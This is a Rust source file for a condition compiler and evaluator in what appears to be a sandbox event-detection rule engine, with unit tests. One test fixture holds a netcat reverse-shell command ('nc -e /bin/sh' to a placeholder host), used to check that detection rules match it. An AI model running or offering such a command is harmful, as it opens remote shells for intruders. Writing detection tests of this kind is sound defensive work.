//! Compiled conditions: a parsed [`Expr`] with its macros expanded, list names replaced by
//! their items and fields resolved, ready to evaluate against a record.

use std::collections::{HashMap, HashSet};

use crate::fields::{with_values, Event, Field, V};
use crate::glob::Glob;
use crate::parse::{Expr, Op, Val};
use crate::procs::Proc;

#[derive(Debug, Clone)]
pub enum Cond {
    And(Box<Cond>, Box<Cond>),
    Or(Box<Cond>, Box<Cond>),
    Not(Box<Cond>),
    Cmp(Field, Test),
}

#[derive(Debug, Clone)]
pub enum Test {
    Eq(String, Option<f64>),
    Ne(String, Option<f64>),
    Ord(Op, f64),
    Contains(String),
    IContains(String),
    StartsWith(String),
    EndsWith(String),
    Glob(Glob),
    In(HashSet<String>),
    PMatch(Vec<String>),
    Exists,
}

/// A compile error at byte `offset` of the condition it came from.
#[derive(Debug, Clone)]
pub struct CompileError {
    pub offset: usize,
    pub msg: String,
    /// The macro the error is in (its own text), if not the rule's condition.
    pub in_macro: Option<String>,
}

/// Names a condition may use.
pub struct Scope<'a> {
    pub lists: &'a HashMap<String, Vec<String>>,
    /// Macro name → its parsed condition.
    pub macros: &'a HashMap<String, Expr>,
}

impl Scope<'_> {
    pub fn compile(&self, e: &Expr) -> Result<Cond, CompileError> {
        self.go(e, &mut Vec::new())
    }

    fn go(&self, e: &Expr, stack: &mut Vec<String>) -> Result<Cond, CompileError> {
        let err = |offset: usize, msg: String, stack: &Vec<String>| CompileError {
            offset,
            msg,
            in_macro: stack.last().cloned(),
        };
        Ok(match e {
            Expr::And(a, b) => {
                Cond::And(Box::new(self.go(a, stack)?), Box::new(self.go(b, stack)?))
            }
            Expr::Or(a, b) => Cond::Or(Box::new(self.go(a, stack)?), Box::new(self.go(b, stack)?)),
            Expr::Not(a) => Cond::Not(Box::new(self.go(a, stack)?)),
            Expr::Macro { name, at } => {
                let Some(m) = self.macros.get(name) else {
                    return Err(err(
                        *at,
                        format!("{name:?} is neither a macro nor a comparison (a field needs an operator)"),
                        stack,
                    ));
                };
                if stack.contains(name) {
                    return Err(err(*at, format!("macro {name:?} uses itself"), stack));
                }
                stack.push(name.clone());
                let c = self.go(m, stack);
                stack.pop();
                // Errors inside a macro point at its use here.
                c.map_err(|mut e| {
                    if e.in_macro.as_deref() == Some(name.as_str()) {
                        e.msg = format!("in macro {name:?}: {}", e.msg);
                        e.offset = *at;
                        e.in_macro = stack.last().cloned();
                    }
                    e
                })?
            }
            Expr::Cmp {
                field,
                at,
                op,
                vals,
            } => {
                let f = Field::parse(field).map_err(|m| err(*at, m, stack))?;
                let one = || {
                    vals.first()
                        .map(|v| v.1.text().to_string())
                        .unwrap_or_default()
                };
                let test = match op {
                    Op::Eq | Op::Ne => {
                        let s = one();
                        let n = s.parse().ok();
                        if *op == Op::Eq {
                            Test::Eq(s, n)
                        } else {
                            Test::Ne(s, n)
                        }
                    }
                    Op::Lt | Op::Le | Op::Gt | Op::Ge => {
                        let (vat, v) = &vals[0];
                        let n = v.text().parse::<f64>().map_err(|_| {
                            err(*vat, format!("{:?} is not a number", v.text()), stack)
                        })?;
                        Test::Ord(*op, n)
                    }
                    Op::Contains => Test::Contains(one()),
                    Op::IContains => Test::IContains(one().to_lowercase()),
                    Op::StartsWith => Test::StartsWith(one()),
                    Op::EndsWith => Test::EndsWith(one()),
                    Op::Glob => Test::Glob(Glob::new(&one())),
                    Op::Exists => Test::Exists,
                    Op::In | Op::PMatch => {
                        let mut items = Vec::new();
                        for (_, v) in vals {
                            match v {
                                Val::Word(w) if self.lists.contains_key(w) => {
                                    items.extend(self.lists[w].iter().cloned())
                                }
                                v => items.push(v.text().to_string()),
                            }
                        }
                        if *op == Op::In {
                            Test::In(items.into_iter().collect())
                        } else {
                            Test::PMatch(
                                items
                                    .into_iter()
                                    .map(|p| p.trim_end_matches('/').to_string())
                                    .collect(),
                            )
                        }
                    }
                };
                Cond::Cmp(f, test)
            }
        })
    }
}

/// Whether `hay` contains `needle` (already lowercase), ignoring case; ASCII without
/// allocating.
fn icontains(hay: &str, needle: &str) -> bool {
    if hay.is_ascii() && needle.is_ascii() {
        let (h, n) = (hay.as_bytes(), needle.as_bytes());
        n.is_empty() || h.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n))
    } else {
        hay.to_lowercase().contains(needle)
    }
}

fn test(t: &Test, v: &V<'_>) -> bool {
    match t {
        Test::Eq(s, n) => match (v, n) {
            (V::Num(x), Some(n)) => x == n,
            _ => v.text() == s.as_str(),
        },
        Test::Ne(s, n) => match (v, n) {
            (V::Num(x), Some(n)) => x != n,
            _ => v.text() != s.as_str(),
        },
        Test::Ord(op, n) => match v.num() {
            Some(x) => match op {
                Op::Lt => x < *n,
                Op::Le => x <= *n,
                Op::Gt => x > *n,
                _ => x >= *n,
            },
            None => false,
        },
        Test::Contains(s) => v.text().contains(s.as_str()),
        Test::IContains(s) => icontains(&v.text(), s),
        Test::StartsWith(s) => v.text().starts_with(s.as_str()),
        Test::EndsWith(s) => v.text().ends_with(s.as_str()),
        Test::Glob(g) => g.matches(&v.text()),
        Test::In(set) => set.contains(v.text().as_ref()),
        Test::PMatch(prefixes) => {
            let t = v.text();
            prefixes.iter().any(|p| {
                t.strip_prefix(p.as_str())
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/') || p.is_empty())
            })
        }
        Test::Exists => true,
    }
}

impl Cond {
    pub fn eval(&self, ev: &Event, proc: Option<&Proc>) -> bool {
        match self {
            Cond::And(a, b) => a.eval(ev, proc) && b.eval(ev, proc),
            Cond::Or(a, b) => a.eval(ev, proc) || b.eval(ev, proc),
            Cond::Not(a) => !a.eval(ev, proc),
            Cond::Cmp(f, t) => with_values(f, ev, proc, &mut |v| test(t, v)),
        }
    }

    /// The record kinds this condition can match, if it requires one of them (`kind = x`,
    /// `kind in (…)` on every path): lets the engine skip rules per kind.
    pub fn kinds(&self) -> Option<HashSet<String>> {
        match self {
            Cond::Cmp(Field::Kind, Test::Eq(s, _)) => Some([s.clone()].into()),
            Cond::Cmp(Field::Kind, Test::In(set)) => Some(set.clone()),
            Cond::And(a, b) => match (a.kinds(), b.kinds()) {
                (Some(x), Some(y)) => Some(x.intersection(&y).cloned().collect()),
                (x, None) => x,
                (None, y) => y,
            },
            Cond::Or(a, b) => match (a.kinds(), b.kinds()) {
                (Some(x), Some(y)) => Some(x.union(&y).cloned().collect()),
                _ => None,
            },
            _ => None,
        }
    }

    /// Whether it reads process fields (the engine then looks the process up).
    pub fn uses_proc(&self) -> bool {
        match self {
            Cond::And(a, b) | Cond::Or(a, b) => a.uses_proc() || b.uses_proc(),
            Cond::Not(a) => a.uses_proc(),
            Cond::Cmp(f, _) => matches!(
                f,
                Field::ProcName
                    | Field::ProcCmdline
                    | Field::Ancestor(..)
                    | Field::AnyAncestor(_)
                    | Field::ProcPid
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse;
    use serde_json::json;

    fn ev(kind: &str, body: serde_json::Value) -> Event {
        Event {
            id: 1,
            sandbox: "s".into(),
            team: None,
            ts_ms: 0,
            kind: kind.into(),
            body,
        }
    }

    fn check(src: &str, e: &Event) -> bool {
        let lists = HashMap::from([("shells".to_string(), vec!["bash".into(), "sh".into()])]);
        let macros = HashMap::from([("is_proc".to_string(), parse("kind = process").unwrap())]);
        let s = Scope {
            lists: &lists,
            macros: &macros,
        };
        s.compile(&parse(src).unwrap()).unwrap().eval(e, None)
    }

    #[test]
    fn operators() {
        let p = ev(
            "process",
            json!({"cmd": "/bin/bash", "args": ["-c", "nc -e /bin/sh h 1"], "pid": 4}),
        );
        assert!(check("is_proc and cmd = /bin/bash", &p));
        assert!(check("args contains \"nc -e\"", &p));
        assert!(check("args icontains \"NC -E\"", &p));
        assert!(check("cmd startswith /bin/ and cmd endswith bash", &p));
        assert!(check("cmd glob \"/bin/*sh\"", &p));
        assert!(check("cmd pmatch (/bin, /usr/bin)", &p));
        assert!(!check("cmd pmatch (/bi)", &p));
        assert!(check(
            "pid in (3, 4) and pid >= 4 and pid < 5 and pid != 3",
            &p
        ));
        assert!(check("not missing exists and pid exists", &p));
        assert!(
            !check("missing != 1", &p),
            "comparisons on missing fields are false"
        );
        assert!(check("kind in (file, process) or x = 1", &p));
    }

    #[test]
    fn kinds_index() {
        let lists = HashMap::new();
        let macros = HashMap::new();
        let s = Scope {
            lists: &lists,
            macros: &macros,
        };
        let c = s
            .compile(&parse("kind = net and (a = 1 or b = 2)").unwrap())
            .unwrap();
        assert_eq!(c.kinds(), Some(["net".to_string()].into()));
        let c = s.compile(&parse("kind = net or a = 1").unwrap()).unwrap();
        assert_eq!(c.kinds(), None);
    }

    #[test]
    fn macro_errors() {
        let lists = HashMap::new();
        let macros = HashMap::from([
            ("loop".to_string(), parse("loop and a = 1").unwrap()),
            ("bad".to_string(), parse("proc.nope = 1").unwrap()),
        ]);
        let s = Scope {
            lists: &lists,
            macros: &macros,
        };
        let e = s.compile(&parse("a = 1 and loop").unwrap()).unwrap_err();
        assert!(e.msg.contains("uses itself"), "{e:?}");
        let e = s.compile(&parse("a = 1 and bad").unwrap()).unwrap_err();
        assert_eq!(e.offset, 10);
        assert!(e.msg.contains("in macro \"bad\""), "{e:?}");
        let e = s.compile(&parse("a = 1 and nomacro").unwrap()).unwrap_err();
        assert_eq!(e.offset, 10);
    }
}
